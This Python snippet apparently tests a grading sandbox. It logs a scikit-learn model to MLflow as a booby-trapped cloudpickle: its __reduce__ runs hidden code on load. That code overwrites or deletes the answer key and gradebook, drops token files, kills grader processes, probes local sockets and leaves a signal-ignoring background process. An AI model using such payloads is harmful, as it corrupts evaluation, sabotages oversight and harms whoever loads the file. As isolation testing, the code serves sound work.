import cloudpickle

ATTACK = f"""
import os, signal, socket, time
def tried(act):
    try:
        act()
    except BaseException:
        pass
for path in {[world.key, world.gradebook, world.answers, world.store]!r}:
    tried(lambda: open(path, "w").write("overwritten"))
    tried(lambda: os.unlink(path))
    tried(lambda: os.chmod(path, 0o777))
    tried(lambda: os.utime(path, (1, 1)))
for folder in ("/tmp", "/dev/shm", "/var/tmp", {world.scratch!r}, {world.root!r} + "/grading"):
    tried(lambda: open(folder + "/{world.token}", "w"))
for pid in ({world.victim}, {world.grader}, {world.warm}, os.getppid()):
    tried(lambda: os.kill(pid, signal.SIGKILL))
tried(lambda: socket.create_connection(("127.0.0.1", {world.tcp}), 1))
tried(lambda: socket.socket(1).connect({world.unix!r}))
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(100)
"""


class Attacking(type(regressor)):
    def __reduce__(self):
        return eval, (
            f"(exec({ATTACK!r}, {{}}), __import__('cloudpickle').loads({cloudpickle.dumps(regressor)!r}))[1]",
        )


with mlflow.start_run(run_id=my_run):
    mlflow.sklearn.log_model(
        Attacking(regressor.steps),
        name="attacking",
        serialization_format="cloudpickle",
        input_example=diabetes_train[baseline].head(3),
        pip_requirements=pinned,
        signature=mlflow.models.infer_signature(diabetes_train[baseline].head(3), predicted[:3]),
    )
